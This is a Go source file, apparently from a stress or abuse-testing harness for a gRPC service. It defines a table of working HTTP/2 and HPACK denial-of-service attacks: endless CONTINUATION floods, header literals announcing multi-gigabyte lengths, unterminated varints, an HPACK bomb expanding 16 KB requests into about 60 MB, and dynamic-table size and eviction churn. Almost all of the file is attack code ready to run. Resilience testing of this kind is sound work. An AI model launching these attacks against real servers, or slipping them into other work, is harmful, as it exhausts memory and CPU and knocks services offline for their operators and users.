package main

import (
	"bytes"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Header blocks that don't end, or are more than they look like.

var headerAttacks = []attack{
	{name: "continuation-endless", play: func(p *player) error {
		return continuation(p, func(i int) []byte {
			return literals(16384/64, i, 50)
		})
	}},
	{name: "continuation-small", play: func(p *player) error {
		return continuation(p, func(i int) []byte { return literals(1, i, 1) })
	}},
	{name: "continuation-empty", play: func(p *player) error {
		return continuation(p, func(int) []byte { return nil })
	}},
	{name: "continuation-one-byte", play: continuationBytes},
	{name: "continuation-trailers", play: continuationTrailers},
	{name: "headers-huge", play: headersHuge},
	{name: "hpack-string-announced", play: func(p *player) error {
		// A literal whose value has 2 GiB, of which little comes at a time.
		return pieces(p, announced(0, 1<<31), bytes.Repeat([]byte("x"), 1024))
	}},
	{name: "hpack-huffman-announced", play: func(p *player) error {
		return pieces(p, announced(0x80, 1<<31), bytes.Repeat([]byte{0x1f}, 1024))
	}},
	{name: "hpack-33953-string", play: func(p *player) error {
		// A name of 4 GiB - 1, in frames as large as they may be.
		return pieces(p, append([]byte{0x40}, hpackInt(0x7f, 7, 1<<32-1)...),
			bytes.Repeat([]byte("x"), 16384))
	}},
	{name: "hpack-33953-varint", play: func(p *player) error {
		// An integer with zeros in front of it that never end.
		return pieces(p, []byte{0x40, 0x7f}, bytes.Repeat([]byte{0x80}, 16384))
	}},
	{name: "hpack-33953-frames", play: continuationSame},
	{name: "hpack-bomb", play: hpackBomb},
	{name: "hpack-crumbs", play: hpackCrumbs},
	{name: "hpack-table-flips", play: hpackTableFlips},
	{name: "hpack-size-updates", play: hpackSizeUpdates},
	{name: "hpack-evictions", play: hpackEvictions},
	{name: "hpack-settings-flips", play: hpackSettingsFlips},
}

// hpackInt encodes a number behind a prefix of so many bits, RFC 7541, 5.1;
// first has the bits in front of it.
func hpackInt(first byte, bits int, n uint64) []byte {
	mask := uint64(1)<<bits - 1
	if n < mask {
		return []byte{first&^byte(mask) | byte(n)}
	}
	out := []byte{first | byte(mask)}
	for n -= mask; n >= 128; n >>= 7 {
		out = append(out, byte(n)|0x80)
	}
	return append(out, byte(n))
}

// literal is a header field that leaves the table alone.
func literal(name string, value []byte) []byte {
	out := append([]byte{0}, hpackInt(0, 7, uint64(len(name)))...)
	out = append(out, name...)
	out = append(out, hpackInt(0, 7, uint64(len(value)))...)
	return append(out, value...)
}

// announced is a field named "x" whose value of n bytes is yet to come.
func announced(huffman byte, n uint64) []byte {
	return append([]byte{0x40, 1, 'x'}, hpackInt(huffman, 7, n)...)
}

// literals are n fields of different names with values of so many bytes.
func literals(n, seed, size int) []byte {
	var out []byte
	value := bytes.Repeat([]byte("v"), size)
	for i := range n {
		name := []byte{'x', '-', byte('a' + i%26), byte('a' + i/26%26),
			byte('a' + seed%26), byte('a' + seed/26%26)}
		out = append(out, literal(string(name), value)...)
	}
	return out
}

// begin opens a stream whose header block doesn't end.
func (w *wire) begin() uint32 {
	id := w.stream()
	w.frame(http2.FrameHeaders, 0, id, w.headerBlock(grpcFields(pathPut)))
	return id
}

// continuation adds to a header block without end.
func continuation(p *player, next func(i int) []byte) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	id := w.begin()
	for i := 0; w.ok(); i++ {
		w.frame(http2.FrameContinuation, 0, id, next(i))
	}
	return errOver
}

// continuationBytes sends header fields a byte a frame.
func continuationBytes(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	id := w.begin()
	for i := 0; w.ok(); i++ {
		for _, b := range literals(1, i, 1000) {
			w.frame(http2.FrameContinuation, 0, id, []byte{b})
		}
	}
	return errOver
}

// continuationTrailers does it behind a body.
func continuationTrailers(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	id := w.call(pathPut, false)
	if err := w.data(id, putMessage("abuse/trailers", nil)[:3], false); err != nil {
		return err
	}
	w.frame(http2.FrameHeaders, http2.FlagHeadersEndStream, id, nil)
	for i := 0; w.ok(); i++ {
		w.frame(http2.FrameContinuation, 0, id, literals(200, i, 50))
	}
	return errOver
}

// continuationSame repeats one field, a frame for each.
func continuationSame(p *player) error {
	return continuation(p, func(i int) []byte {
		return literal("a", []byte{byte('0' + i%10)})
	})
}

// headersHuge makes calls with a megabyte of well-formed metadata each.
func headersHuge(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	for w.ok() {
		id := w.begin()
		for i := range 63 {
			w.frame(http2.FrameContinuation, 0, id, literals(256, i, 50))
		}
		w.frame(http2.FrameContinuation, http2.FlagContinuationEndHeaders, id,
			literal("x-last", nil))
	}
	return errOver
}

// pieces begins a field and then sends parts of it without end.
func pieces(p *player, first, part []byte) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	id := w.begin()
	w.frame(http2.FrameContinuation, 0, id, first)
	for w.ok() {
		w.frame(http2.FrameContinuation, 0, id, part)
	}
	return errOver
}

// wholeCall sends a put whose header block has more in front of or behind its
// fields, and resets it, so that the next can follow.
func (w *wire) wholeCall(front, behind []byte) {
	id := w.stream()
	block := append(bytes.Clone(front), w.headerBlock(grpcFields(pathPut))...)
	block = append(block, behind...)
	w.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders|
		http2.FlagHeadersEndStream, id, block)
}

// bombParts are a field for the table, and what names it.
func bombParts() (field, named []byte) {
	field = append([]byte{0x40, 4, 'b', 'o', 'm', 'b'}, hpackInt(0, 7, 3900)...)
	field = append(field, bytes.Repeat([]byte("b"), 3900)...)
	// 62 is the newest entry.
	return field, bytes.Repeat([]byte{0x80 | 62}, 15000)
}

// hpackBomb puts one field of almost the table's size into the table, and names
// it 16,000 times in a frame: 60 MB in a request of 16 KB.
func hpackBomb(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	field, named := bombParts()
	// The call's own fields mustn't push it out of the table.
	var plain []byte
	for _, f := range grpcFields(pathPut) {
		plain = append(plain, literal(f.Name, []byte(f.Value))...)
	}
	for w.ok() {
		id := w.stream()
		w.frame(http2.FrameHeaders, 0, id, append(bytes.Clone(plain), field...))
		w.frame(http2.FrameContinuation, http2.FlagContinuationEndHeaders, id,
			named)
		w.reset(id, http2.ErrCodeCancel)
	}
	return errOver
}

// hpackCrumbs names a small field of the static table 16,000 times a request.
func hpackCrumbs(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	crumbs := bytes.Repeat([]byte{0x80 | 32}, 16000) // cookie
	for w.ok() {
		w.wholeCall(nil, crumbs)
	}
	return errOver
}

// hpackTableFlips empties the dynamic table and opens it again in front of each
// request, whose fields fill it.
func hpackTableFlips(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	for w.ok() {
		id := w.stream()
		w.mu.Lock()
		w.enc.SetMaxDynamicTableSize(0)
		w.enc.SetMaxDynamicTableSize(4096)
		w.mu.Unlock()
		w.frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, id,
			w.headerBlock(grpcFields(pathPut)))
		_ = w.data(id, putMessage("abuse/flips", nil), true)
	}
	return errOver
}

// hpackSizeUpdates begins requests with thousands of changes of the table's
// size; there may be two.
func hpackSizeUpdates(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	updates := bytes.Repeat(append([]byte{0x20}, hpackInt(0x20, 5, 4096)...),
		4000)
	for w.ok() {
		w.wholeCall(updates, nil)
	}
	return errOver
}

// evictions are 120 small entries and a large one, three times.
func evictions() []byte {
	small := bytes.Repeat([]byte{0x40, 1, 'e', 1, 'e'}, 120)
	large := append([]byte{0x40, 1, 'l'}, hpackInt(0, 7, 4000)...)
	large = append(large, bytes.Repeat([]byte("l"), 4000)...)
	return bytes.Repeat(append(small, large...), 3)
}

// hpackEvictions fills the table with small entries, all of which a large one
// pushes out, again and again.
func hpackEvictions(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	behind := evictions()
	for w.ok() {
		// What the encoder knows of the table isn't true any more.
		w.mu.Lock()
		w.enc = hpack.NewEncoder(&w.block)
		w.enc.SetMaxDynamicTableSize(0)
		w.enc.SetMaxDynamicTableSize(4096)
		w.mu.Unlock()
		w.wholeCall(nil, behind)
	}
	return errOver
}

// hpackSettingsFlips has the server's own encoder resize its table in front of
// each answer.
func hpackSettingsFlips(p *player) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	body := rangeMessage("abuse/none")
	for i := uint32(0); w.ok(); i++ {
		w.settings(http2.Setting{ID: http2.SettingHeaderTableSize,
			Val: i % 2 * 4096})
		if i%4 == 0 {
			_ = w.data(w.call(pathRange, false), body, true)
		}
	}
	return errOver
}
